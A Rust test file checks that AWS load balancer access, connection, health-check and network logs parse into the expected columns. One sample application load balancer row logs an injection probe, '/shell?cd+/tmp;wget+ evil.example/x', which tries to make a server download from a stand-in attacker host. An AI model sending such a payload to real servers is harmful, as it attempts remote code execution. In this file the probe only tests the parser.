//! The sample lines of load balancer logs, column by column, as the specification spells them out.

use serde_json::json;

use crate::samples::{assert_columns, row, rows};

#[test]
fn classic_load_balancer() {
    let rows = rows("clb_logs", "clb");
    assert_eq!(rows.len(), 4);
    assert_eq!(
        rows[0],
        row(json!({
            "time": "2026-01-15T10:00:00.945958Z", "elb": "my-loadbalancer", "client_ip": "198.51.100.39",
            "client_port": 2817, "backend_ip": "10.0.0.1", "backend_port": 80, "request_processing_time": 0.000073,
            "backend_processing_time": 0.001048, "response_processing_time": 0.000057, "elb_status_code": 200,
            "backend_status_code": 200, "received_bytes": 0, "sent_bytes": 29, "request_verb": "GET",
            "request_url": "http://www.example.com:80/", "request_proto": "HTTP/1.1", "user_agent": "curl/8.5.0",
        }))
    );
    assert_eq!(
        rows[1],
        row(json!({
            "time": "2026-01-15T10:00:01.072335Z", "elb": "my-loadbalancer",
            "client_ip": "2001:db8:4002:5883:b5f3:aaaa:bbbb:64ec", "client_port": 53016, "backend_ip": "10.0.0.1",
            "backend_port": 80, "request_processing_time": 0.00008, "backend_processing_time": 0.006129,
            "response_processing_time": 0.000037, "elb_status_code": 200, "backend_status_code": 200,
            "received_bytes": 0, "sent_bytes": 57, "request_verb": "GET",
            "request_url": "https://www.example.com:443/a?b=c", "request_proto": "HTTP/1.1",
            "user_agent": "Mozilla/5.0 (X11; Linux x86_64)", "ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256",
            "ssl_protocol": "TLSv1.2",
        }))
    );
    assert_eq!(
        rows[2],
        row(json!({
            "time": "2026-01-15T10:00:02.943958Z", "elb": "my-loadbalancer", "client_ip": "198.51.100.39",
            "client_port": 2818, "backend_ip": "10.0.0.1", "backend_port": 80, "request_processing_time": 0.001069,
            "backend_processing_time": 0.000028, "response_processing_time": 0.000041, "received_bytes": 82,
            "sent_bytes": 305,
        }))
    );
    assert_eq!(
        rows[3],
        row(json!({
            "time": "2026-01-15T10:00:03.383076Z", "elb": "my-loadbalancer", "client_ip": "203.0.113.1",
            "client_port": 63484, "request_processing_time": -1.0, "backend_processing_time": -1.0,
            "response_processing_time": -1.0, "elb_status_code": 504, "backend_status_code": 0, "received_bytes": 0,
            "sent_bytes": 0, "request_verb": "GET", "request_url": "https://www.example.com:443/slow",
            "request_proto": "HTTP/1.1", "user_agent": "curl/8.5.0", "ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256",
            "ssl_protocol": "TLSv1.2",
        }))
    );
}

#[test]
fn classic_load_balancer_of_twelve_fields() {
    let rows = rows("clb_logs", "clb-old");
    assert_eq!(
        rows,
        [row(json!({
            "time": "2014-02-15T23:39:43.945958Z", "elb": "my-loadbalancer", "client_ip": "198.51.100.39",
            "client_port": 2817, "backend_ip": "10.0.0.1", "backend_port": 80, "request_processing_time": 0.000073,
            "backend_processing_time": 0.001048, "response_processing_time": 0.000057, "elb_status_code": 200,
            "backend_status_code": 200, "received_bytes": 0, "sent_bytes": 29, "request_verb": "GET",
            "request_url": "http://www.example.com:80/", "request_proto": "HTTP/1.1",
        }))]
    );
}

const TARGETS: &str =
    "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067";

#[test]
fn application_load_balancer() {
    let rows = rows("alb_logs", "alb");
    assert_eq!(rows.len(), 3);
    assert_eq!(
        rows[0],
        row(json!({
            "type": "https", "time": "2026-01-15T10:00:00.186641Z", "elb": "app/my-loadbalancer/50dc6c495c0c9188",
            "client_ip": "198.51.100.39", "client_port": 2817, "target_ip": "10.0.0.1", "target_port": 80,
            "request_processing_time": 0.086, "target_processing_time": 0.048, "response_processing_time": 0.037,
            "elb_status_code": 200, "target_status_code": 200, "received_bytes": 34, "sent_bytes": 366,
            "request_verb": "GET", "request_url": "https://www.example.com:443/cart?id=7",
            "request_proto": "HTTP/1.1", "user_agent": "curl/8.5.0", "ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256",
            "ssl_protocol": "TLSv1.2", "target_group_arn": TARGETS,
            "trace_id": "Root=1-58337281-1d84f3d73c47ec4e58577259", "domain_name": "www.example.com",
            "chosen_cert_arn": "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012",
            "matched_rule_priority": 1, "request_creation_time": "2026-01-15T10:00:00.015Z",
            "actions_executed": "authenticate,forward", "target_port_list": "10.0.0.1:80",
            "target_status_code_list": "200", "conn_trace_id": "TID_1234abcd5678ef90",
            "transformed_host": "m.example.com", "request_transform_status": "TransformSuccess",
            "ip_address": "10.0.0.9",
        }))
    );
    assert_eq!(
        rows[1],
        row(json!({
            "type": "http", "time": "2026-01-15T10:00:01.051646Z", "elb": "app/my-loadbalancer/50dc6c495c0c9188",
            "client_ip": "203.0.113.20", "client_port": 41542, "request_processing_time": -1.0,
            "target_processing_time": -1.0, "response_processing_time": -1.0, "elb_status_code": 301,
            "received_bytes": 233, "sent_bytes": 390, "request_verb": "GET",
            "request_url": "http://192.0.2.10:80/shell?cd+/tmp;wget+ evil.example/x", "request_proto": "HTTP/1.1",
            "user_agent": "Hello, world", "trace_id": "Root=1-627cac19-4c6df30820daa80e3fd72ced",
            "matched_rule_priority": 0, "request_creation_time": "2026-01-15T10:00:01.051Z",
            "actions_executed": "redirect",
            "redirect_url": "https://192.0.2.10:443/shell?cd+/tmp;wget+ evil.example/x",
            "classification": "Acceptable", "classification_reason": "SpaceInUri",
            "conn_trace_id": "TID_16132ed0b4112148", "ip_address": "10.0.0.9",
        }))
    );
    assert_columns(
        &rows[2],
        json!({
            "type": "h2", "client_ip": "2001:db8::7", "client_port": 50718,
            "request_url": r"https://www.example.com:443/q?bar=\x22", "request_proto": "HTTP/2.0",
            "user_agent": r"agent \x22x\x22 1.0", "chosen_cert_arn": "session-reused", "matched_rule_priority": 10160,
            "actions_executed": "waf,forward", "response_processing_time": 0.0, "ip_address": "10.0.0.9",
        }),
    );
}

#[test]
fn application_load_balancer_of_thirty_fields() {
    let rows = rows("alb_logs", "alb-30");
    assert_eq!(rows.len(), 3);
    assert_eq!(
        rows[0],
        row(json!({
            "type": "http", "time": "2026-01-15T10:00:03.216357Z", "elb": "app/my-loadbalancer/50dc6c495c0c9188",
            "client_ip": "203.0.113.90", "client_port": 15070, "request_processing_time": -1.0,
            "target_processing_time": -1.0, "response_processing_time": -1.0, "elb_status_code": 400,
            "received_bytes": 0, "sent_bytes": 272,
            "request_url": "http://my-loadbalancer-1.us-east-2.elb.amazonaws.com:80-",
            "request_creation_time": "2026-01-15T10:00:02.967Z",
            "conn_trace_id": "TID_dc57cebed65b444ebc8177bb698fe166",
        }))
    );
    assert_columns(
        &rows[1],
        json!({
            "request_verb": null, "request_proto": null,
            "request_url": "http://my-loadbalancer-1.us-east-2.elb.amazonaws.com:80-/", "elb_status_code": 200,
        }),
    );
    assert_columns(
        &rows[2],
        json!({
            "target_ip": null, "target_port": null, "target_status_code": null, "error_reason": "LambdaInvalidResponse",
            "actions_executed": "forward", "target_port_list": null, "target_status_code_list": null,
        }),
    );
}

#[test]
fn application_load_balancer_of_eighteen_fields() {
    assert_eq!(
        rows("alb_logs", "alb-18"),
        [row(json!({
            "type": "https", "time": "2016-11-23T00:43:36.802774Z", "elb": "app/prd-elb/9bb21a626f7e7660",
            "client_ip": "203.0.113.90", "client_port": 47372, "request_processing_time": -1.0,
            "target_processing_time": -1.0, "response_processing_time": -1.0, "elb_status_code": 503,
            "received_bytes": 131, "sent_bytes": 381, "request_verb": "GET",
            "request_url": "https://192.0.2.99:443//recordings/", "request_proto": "HTTP/1.1",
            "user_agent": "libwww-perl/6.15", "ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256", "ssl_protocol": "TLSv1.2",
            "target_group_arn": "arn:aws:elasticloadbalancing:us-west-2:123456789012:targetgroup/prd-instances/ed26c7347aa20ca1",
            "trace_id": "Root=1-5834e638-4ce6fbe536f2a4fa14041b73",
        }))]
    );
}

#[test]
fn connection_log_of_twelve_fields() {
    let rows = rows("alb_connection_logs", "alb-conn-12");
    assert_eq!(rows.len(), 3);
    assert_eq!(
        rows[0],
        row(json!({
            "time": "2026-01-15T10:00:00.514108Z", "client_ip": "203.0.113.1", "client_port": 36280,
            "listener_port": 443, "tls_protocol": "TLSv1.2", "tls_cipher": "ECDHE-RSA-AES128-GCM-SHA256",
            "tls_handshake_latency": 4.036,
            "leaf_client_cert_subject": "CN=client.example.com,O=End Entity,L=Seattle,ST=Washington,C=US",
            "leaf_client_cert_validity": "NotBefore=2025-09-21T22:43:21Z;NotAfter=2028-06-17T22:43:21Z",
            "leaf_client_cert_serial_number": "FEF257372D5C14D4", "tls_verify_status": "Success",
            "conn_trace_id": "TID_3180a73013c8ca4bac2f731159d4b0fe",
        }))
    );
    assert_columns(
        &rows[1],
        json!({"tls_handshake_latency": null, "tls_verify_status": "Failed:ClientCertUntrusted"}),
    );
    assert_eq!(
        rows[2],
        row(json!({
            "time": "2026-01-15T10:00:02.599544Z", "client_ip": "10.0.0.26", "client_port": 58206,
            "listener_port": 80, "conn_trace_id": "TID_16132ed0b4112148",
        }))
    );
}

#[test]
fn connection_log_of_fifteen_fields() {
    assert_eq!(
        rows("alb_connection_logs", "alb-conn-15"),
        [row(json!({
            "time": "2026-01-15T10:00:03.100Z", "client_ip": "2001:db8::7", "client_port": 50718, "listener_port": 443,
            "tls_protocol": "TLSv1.3", "tls_cipher": "TLS_AES_128_GCM_SHA256", "tls_handshake_latency": 0.011,
            "tls_verify_status": "Success", "conn_trace_id": "TID_dc57cebed65b444ebc8177bb698fe166",
            "tls_keyexchange": "X25519MLKEM768", "elb": "app/my-loadbalancer/50dc6c495c0c9188",
            "ip_address": "10.0.0.9",
        }))]
    );
}

#[test]
fn health_check_log() {
    let rows_of_8 = rows("alb_health_check_logs", "alb-hc-8");
    assert_eq!(
        rows_of_8,
        [
            row(json!({
                "type": "http", "time": "2026-01-15T10:00:00.875678Z", "latency": 0.019584011,
                "target_addr": "10.0.0.97:80", "target_group_id": "my-targets", "status": "PASS", "status_code": 200,
            })),
            row(json!({
                "type": "http", "time": "2026-01-15T10:00:05.901409Z", "latency": 1.121980746,
                "target_addr": "10.0.0.9:80", "target_group_id": "my-targets", "status": "FAIL", "status_code": 502,
                "reason_code": "TargetError",
            })),
        ]
    );
    assert_eq!(
        rows("alb_health_check_logs", "alb-hc-10"),
        [row(json!({
            "type": "lambda", "time": "2026-01-15T10:00:06.000001Z", "latency": 0.104,
            "target_addr": "arn:aws:lambda:us-east-2:123456789012:function:probe", "target_group_id": "my-lambda",
            "status": "PASS", "status_code": 200, "elb": "app/my-loadbalancer/50dc6c495c0c9188",
            "ip_address": "10.0.0.9",
        }))]
    );
}

#[test]
fn network_load_balancer() {
    let certificate = "arn:aws:acm:us-east-2:123456789012:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99";
    let rows = rows("nlb_logs", "nlb");
    assert_eq!(rows.len(), 4);
    assert_eq!(
        rows[0],
        row(json!({
            "type": "tls", "version": "2.0", "time": "2026-01-15T02:59:40Z",
            "elb": "net/my-network-loadbalancer/c6e77e28c25b2234", "listener": "g3d4b5e8bb8464cd",
            "client_ip": "203.0.113.154", "client_port": 51341, "destination_ip": "10.100.100.185",
            "destination_port": 443, "connection_time": 5, "tls_handshake_time": 2, "received_bytes": 98,
            "sent_bytes": 246, "chosen_cert_arn": certificate, "tls_cipher": "ECDHE-RSA-AES128-SHA",
            "tls_protocol_version": "tlsv12",
            "domain_name": "my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com",
            "tls_connection_creation_time": "2026-01-15T02:59:30Z",
        }))
    );
    assert_columns(
        &rows[1],
        json!({
            "alpn_client_preference_list": "\"h2\",\"http/1.1\"", "alpn_fe_protocol": "h2", "alpn_be_protocol": "h2",
            "domain_name": "api.example.com", "tls_connection_creation_time": "2026-01-15T08:51:20Z",
        }),
    );
    assert_eq!(
        rows[2],
        row(json!({
            "type": "tls", "version": "2.0", "time": "2026-01-15T09:00:00Z",
            "elb": "net/my-network-loadbalancer/c6e77e28c25b2234", "listener": "g3d4b5e8bb8464cd",
            "client_ip": "2001:db8:4900:1d0c:29b7:c9b2:7b5a:2380", "client_port": 55932,
            "destination_ip": "2001:db8:1a:138:7c01:63c:b510:129f", "destination_port": 443, "connection_time": 35040,
            "tls_handshake_time": 48, "received_bytes": 2150, "sent_bytes": 1726, "chosen_cert_arn": certificate,
            "tls_cipher": "TLS_AES_128_GCM_SHA256", "tls_protocol_version": "tlsv13", "tls_keyexchange": "x25519",
            "domain_name": "example.com", "tls_connection_creation_time": "2026-01-15T08:59:25Z",
        }))
    );
    assert_eq!(
        rows[3],
        row(json!({
            "type": "tls", "version": "2.0", "time": "2026-01-15T09:01:00Z",
            "elb": "net/my-network-loadbalancer/c6e77e28c25b2234", "listener": "g3d4b5e8bb8464cd",
            "client_ip": "203.0.113.9", "client_port": 40000, "destination_ip": "10.100.100.185",
            "destination_port": 443, "connection_time": 0, "received_bytes": 0, "sent_bytes": 0,
            "tls_connection_creation_time": "2026-01-15T09:01:00Z",
        }))
    );
}
